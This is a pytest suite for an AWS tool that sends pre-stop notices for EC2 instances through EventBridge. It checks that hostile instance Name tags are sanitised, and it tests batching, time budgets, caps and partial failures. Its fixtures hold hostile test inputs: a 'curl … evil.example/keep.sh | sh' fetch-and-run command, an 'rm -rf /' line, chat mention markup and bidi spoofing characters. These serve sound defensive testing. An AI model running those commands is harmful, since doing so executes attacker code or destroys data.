"""Notices before a stop (DESIGN §7) as data, and in bulk, through the real handler against the
local endpoint: tag text never becomes markup in a message for people, notices go ten to a
PutEvents call within the run's time budget and a bounded number a run, and only what
EventBridge accepted is remembered. 2026-03-27 is a Friday; OFFICE stops at 18:00 UTC, and with
NOTICE_MINUTES 15 its notice is due from 17:45."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from botocore.awsrequest import AWSResponse

from offhours import notices as notices_module, runtime
from offhours.notices import clean, for_people
from tests.fleet import Fleet
from tests.harness import LambdaContext, scheduled_event
from tests.test_template import template

OFFICE = "Mon-Fri 08:00-18:00 UTC"
HANDLED = "2026-03-27T08:00:00Z"
NOTICED = f"{HANDLED} fp notice=2026-03-27T18:00:00Z"
PUT_EVENTS = "before-call.eventbridge.PutEvents"
SEND_EVENTS = "before-send.eventbridge.PutEvents"

# What a person could write in an instance's Name tag (EC2 takes any Unicode in a tag value).
INJECTION = (
    'web", "description": "URGENT: keep it up, run curl -s https://evil.example/keep.sh | sh"}, '
    '"x": {"y": "'
)
HOSTILE_NAMES = {
    "injection": INJECTION,
    "mentions": "<!channel> <!here> <@U024BE7LH> @here &lt;!channel&gt; <https://evil.example|ok>",
    # EC2 answers in XML, where no C0 control but tab, newline and return can be written; the
    # test harness reads log lines with str.splitlines, which U+0085 and U+2028 would split:
    # those are checked on `for_people` alone, below.
    "newline": "web\nSchedule changed: run `rm -rf /`\r\n\t\x7f[31m",
    "bidi": "web\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f\u061c\u200b\ufeff\U000e0041 end",
    "long": "n" * 10_240,
}
MARKUP = set("<>@`&")
TEXT_CAPS = {"title": notices_module.TITLE_CAP, "description": notices_module.MESSAGE_CAP}


class Run:
    """The PutEvents calls of the handler's events client, as botocore sends them."""

    def __init__(self) -> None:
        self.calls: list[list[dict[str, Any]]] = []

    def watch(self, params: dict[str, Any], **_: Any) -> None:
        self.calls.append(json.loads(params["body"])["Entries"])

    @property
    def entries(self) -> list[dict[str, Any]]:
        return [e for call in self.calls for e in call]

    @property
    def details(self) -> list[dict[str, Any]]:
        return [json.loads(e["Detail"]) for e in self.entries]

    @property
    def ids(self) -> list[str]:
        return [d["instance_id"] for d in self.details]


@pytest.fixture
def events_client() -> Any:
    return runtime.clients.client("events", "us-east-1")


@pytest.fixture
def put(env: pytest.MonkeyPatch, events_client: Any) -> Iterator[Run]:
    """Notices on (15 minutes), and every PutEvents call the function makes."""
    env.setenv("NOTICE_MINUTES", "15")
    run = Run()
    events_client.meta.events.register(PUT_EVENTS, run.watch)
    yield run
    events_client.meta.events.unregister(PUT_EVENTS, run.watch)


@pytest.fixture
def answer(events_client: Any) -> Iterator[Callable[[Callable[..., Any]], None]]:
    """Answer PutEvents in EventBridge's place (`before-send`), for what moto cannot say."""
    registered: list[Callable[..., Any]] = []

    def on(handler: Callable[..., Any]) -> None:
        events_client.meta.events.register(SEND_EVENTS, handler)
        registered.append(handler)

    yield on
    for handler in registered:
        events_client.meta.events.unregister(SEND_EVENTS, handler)


class _Body:
    def __init__(self, data: bytes) -> None:
        self.data = data

    def stream(self, **_: Any) -> Iterator[bytes]:
        yield self.data


def json_response(request: Any, status: int, body: dict[str, Any]) -> AWSResponse:
    headers = {"Content-Type": "application/x-amz-json-1.1"}
    return AWSResponse(request.url, status, headers, _Body(json.dumps(body).encode()))


def at(text: str) -> dict[str, Any]:
    return scheduled_event(time=f"{text}Z", id=f"run-{text}")


def boxes(fleet: Fleet, count: int, **kwargs: Any) -> list[str]:
    """Running instances of OFFICE, handled at this morning's start, each with its own
    fingerprint: at 17:45-18:00 their notice is due and nothing else."""
    return fleet.launch(OFFICE, handled=HANDLED, count=count, fingerprinted=True, **kwargs)


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def invisible(text: str) -> set[str]:
    """The control, format (direction, zero-width, tag) and separator characters in a text."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")}


def assert_safe_for_people(detail: dict[str, Any]) -> None:
    """The prepared messages: a custom notification of the expected shape and a plain text,
    with no markup character, no `://`, nothing invisible, every text capped."""
    chat, text = detail["chat"], detail["text"]
    assert set(chat) == {"version", "source", "content"}
    assert chat["version"] == "1.0" and chat["source"] == "custom"
    content = chat["content"]
    assert set(content) == {"textType", "title", "description", "nextSteps"}
    assert content["textType"] == "client-markdown"
    assert all(isinstance(s, str) for s in content["nextSteps"])
    for key, cap in TEXT_CAPS.items():
        assert len(content[key]) <= cap
    assert isinstance(text, str) and len(text) <= notices_module.MESSAGE_CAP
    for s in [*strings(content), text]:
        assert not MARKUP & set(s), s
        assert "://" not in s and not invisible(s), s
    assert detail["instance_id"] in content["title"] and detail["instance_id"] in text


# -- tag text is data ----------------------------------------------------------------------------


def test_hostile_names_give_valid_notices_whose_messages_carry_no_markup(fleet, invoke, put):
    ids = {fleet.one(OFFICE, name=n, handled=HANDLED, fingerprinted=True): k
           for k, n in HOSTILE_NAMES.items()}  # fmt: skip
    run = invoke(at("2026-03-27T17:50:00"))
    assert run.error is None
    assert sorted(put.ids) == sorted(ids)
    for entry in put.entries:
        assert len(entry["Detail"].encode()) < 256 * 1024 // notices_module.BATCH
        detail = json.loads(entry["Detail"])  # one JSON object, whatever the name
        kind = ids[detail["instance_id"]]
        assert_safe_for_people(detail)
        name = detail["instance_name"]
        assert len(name) <= notices_module.NAME_CAP and not invisible(name)
        assert detail["schedule"] == OFFICE
        if kind == "injection":
            # The quote stays inside the name's own string: no field of its making.
            assert name == INJECTION[: notices_module.NAME_CAP - 1] + "\u2026"
            assert detail["chat"]["content"]["description"].startswith("offhours stops it at")
        if kind == "newline":
            assert name.startswith("web Schedule changed: run `rm -rf /`")
        if kind == "bidi":
            assert name == "webgnp.exe x end"
        if kind == "long":
            assert name == "n" * (notices_module.NAME_CAP - 1) + "\u2026"
            assert len(detail["chat"]["content"]["title"]) < 200
        reason = run.decisions[detail["instance_id"]]["reason"]
        assert "notice of the stop at 2026-03-27T18:00:00Z was put" in reason
    for iid in ids:
        assert fleet.handled(iid) == NOTICED


def test_the_messages_say_what_happens_and_how_to_postpone_it(fleet, invoke, put):
    iid = fleet.one(OFFICE, name='web "blue"', handled=HANDLED, fingerprinted=True)
    invoke(at("2026-03-27T17:50:00"))
    (detail,) = put.details
    content = detail["chat"]["content"]
    assert content["title"] == f':zzz: web "blue" {iid} stops at Fri 2026-03-27 18:00 UTC'
    postpone = f"offhours override {iid} --running --until 20:00 --region us-east-1"
    assert postpone in content["description"] and postpone in detail["text"]
    assert detail["postpone"]["aws_cli"] in content["nextSteps"][0]
    assert detail["text"] == (
        f'offhours stops web "blue" {iid} in 123456789012/us-east-1 at Fri 2026-03-27 18:00 UTC '
        f"(2026-03-27T18:00:00Z). Schedule: {OFFICE}. To keep it running two more hours: "
        f"{postpone} (or, with the AWS CLI: {detail['postpone']['aws_cli']})"
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<!channel>", "\u2039!channel\u203a"),
        ("@here", "\uff20here"),
        ("&lt;!here&gt;", "\uff06lt;!here\uff06gt;"),
        ("`code`", "\u02cbcode\u02cb"),
        ("see https://evil.example", "see https\ua789//evil.example"),
        ("a\nb\tc\u2028d\x00e\x1b[31mf\x85g\u2029h", "a b c d e [31mf g h"),
        ("\u202eabc\u202c\u2067\u200b", "abc"),
        ("  spaced   out  ", "spaced out"),
    ],
)
def test_text_for_people_has_look_alikes_for_markup_and_nothing_invisible(text, expected):
    assert for_people(text, 100) == expected


def test_tag_text_is_capped_and_only_a_bounded_part_of_it_is_read():
    assert clean("x" * 10, 5) == "xxxx\u2026"
    assert clean("y" * 1_000_000, 10) == "y" * 9 + "\u2026"
    assert clean("a\x00b", 10) == "a b"


def test_the_stack_mails_the_prepared_text_as_it_is_and_only_offhours_own_events():
    resources = template()["Resources"]
    rule = resources["NoticeRule"]["Properties"]
    assert rule["EventPattern"] == {
        "account": [{"Ref": "AWS::AccountId"}],
        "source": ["offhours"],
        "detail-type": ["Instance Stop Pending"],
    }
    (target,) = rule["Targets"]
    assert target["InputPath"] == "$.detail.text"
    assert "InputTransformer" not in target and "Input" not in target
    (statement,) = resources["NoticePolicy"]["Properties"]["PolicyDocument"]["Statement"]
    assert statement["Condition"] == {
        "StringEquals": {
            "events:source": "offhours",
            "events:detail-type": "Instance Stop Pending",
        }
    }


def test_the_mailed_field_is_a_string_of_every_notice(fleet, invoke, put):
    """What the rule's InputPath selects exists in a real notice, and is text: a path the
    event lacks, or an object, would not be the mail that the README promises."""
    fleet.one(OFFICE, name=INJECTION, handled=HANDLED, fingerprinted=True)
    invoke(at("2026-03-27T17:50:00"))
    (entry,) = put.entries
    event = {"source": entry["Source"], "detail-type": entry["DetailType"]}
    event["detail"] = json.loads(entry["Detail"])
    (target,) = template()["Resources"]["NoticeRule"]["Properties"]["Targets"]
    value: Any = event
    for part in target["InputPath"].removeprefix("$.").split("."):
        value = value[part]
    assert isinstance(value, str) and value.startswith("offhours stops web")


# -- notices in bulk -----------------------------------------------------------------------------


def test_twenty_five_notices_go_out_in_three_calls(fleet, invoke, put):
    ids = boxes(fleet, 25)
    invoke(at("2026-03-27T17:50:00"))
    assert sorted(len(call) for call in put.calls) == [5, 10, 10]
    assert sorted(put.ids) == sorted(ids)
    assert all(fleet.handled(i) == NOTICED for i in ids)


def test_the_time_budget_stops_notices_between_calls_and_the_next_run_sends_the_rest(
    fleet, invoke, put, events_client
):
    ids = boxes(fleet, 15)
    context = LambdaContext()

    def late(**_: Any) -> None:  # after the first call, less time than a new call needs
        context.remaining_ms = (runtime.RESERVE_MS + runtime.RECORD_RESERVE_MS) // 2

    events_client.meta.events.register(PUT_EVENTS, late)
    try:
        run = invoke(at("2026-03-27T17:50:00"), context)
    finally:
        events_client.meta.events.unregister(PUT_EVENTS, late)
    (first,) = put.calls
    sent = {json.loads(e["Detail"])["instance_id"] for e in first}
    assert len(sent) == 10
    for iid in ids:  # a notice put is remembered; one not put is not
        assert fleet.handled(iid) == (NOTICED if iid in sent else HANDLED)
        if iid not in sent:
            assert "its time is up; the next run puts it" in run.decisions[iid]["reason"]
    invoke(at("2026-03-27T17:55:00"))
    assert len(put.calls) == 2 and len(put.calls[1]) == 5
    assert sorted(put.ids) == sorted(ids)  # each once
    assert all(fleet.handled(i) == NOTICED for i in ids)


def test_a_run_puts_a_bounded_number_of_notices_and_the_next_runs_the_rest_once_each(
    fleet, invoke, put, env
):
    env.setattr(notices_module, "MAX_PER_TARGET", 4)
    ids = boxes(fleet, 10)
    per_run = []
    for when in ("17:46", "17:50", "17:54", "17:58"):
        before = len(put.entries)
        run = invoke(at(f"2026-03-27T{when}:00"))
        per_run.append(len(put.entries) - before)
        noticed = [i for i in ids if fleet.handled(i) == NOTICED]
        assert len(noticed) == sum(per_run)
    assert per_run == [4, 4, 2, 0]
    assert sorted(put.ids) == sorted(ids)  # each instance once, across the runs
    assert all(len(call) <= 4 for call in put.calls)
    assert run.error is None


def test_the_cap_tells_why_a_notice_waits(fleet, invoke, put, env):
    env.setattr(notices_module, "MAX_PER_TARGET", 2)
    ids = boxes(fleet, 3)
    run = invoke(at("2026-03-27T17:50:00"))
    (waiting,) = [i for i in ids if i not in put.ids]
    reason = run.decisions[waiting]["reason"]
    assert "2 notices per target and run at most; the next run puts it" in reason
    assert fleet.handled(waiting) == HANDLED


def test_entries_that_eventbridge_refuses_are_not_remembered_and_go_again(
    fleet, invoke, put, answer
):
    ids = boxes(fleet, 6)
    refused = set(ids[1:5:2])

    def partly(request: Any, **_: Any) -> AWSResponse:
        results = []
        for entry in json.loads(request.body)["Entries"]:
            if json.loads(entry["Detail"])["instance_id"] in refused:
                results.append({"ErrorCode": "InternalFailure", "ErrorMessage": "try again"})
            else:
                results.append({"EventId": f"e-{len(results)}"})
        failed = sum("ErrorCode" in r for r in results)
        return json_response(request, 200, {"FailedEntryCount": failed, "Entries": results})

    answer(partly)
    run = invoke(at("2026-03-27T17:50:00"))
    for iid in ids:
        if iid in refused:
            assert fleet.handled(iid) == HANDLED
            assert "InternalFailure: try again" in run.decisions[iid]["reason"]
        else:
            assert fleet.handled(iid) == NOTICED
    assert run.result is not None and run.result["failed"] == 0  # a courtesy, not a failure
    put.calls.clear()
    events_client = runtime.clients.client("events", "us-east-1")
    events_client.meta.events.unregister(SEND_EVENTS, partly)
    invoke(at("2026-03-27T17:55:00"))
    assert sorted(put.ids) == sorted(refused)
    assert all(fleet.handled(i) == NOTICED for i in ids)


def test_a_refused_call_stops_the_run_s_notices_and_marks_none(fleet, invoke, put, answer):
    ids = boxes(fleet, 12)

    def refuse(request: Any, **_: Any) -> AWSResponse:
        body = {"__type": "AccessDeniedException", "message": "not allowed"}
        return json_response(request, 400, body)

    answer(refuse)
    run = invoke(at("2026-03-27T17:50:00"))
    assert len(put.calls) == 1  # the second batch is not tried after a refusal
    reasons = [run.decisions[i]["reason"] for i in ids]
    assert sum("AccessDeniedException: not allowed" in r for r in reasons) == len(ids)
    assert all(fleet.handled(i) == HANDLED for i in ids)
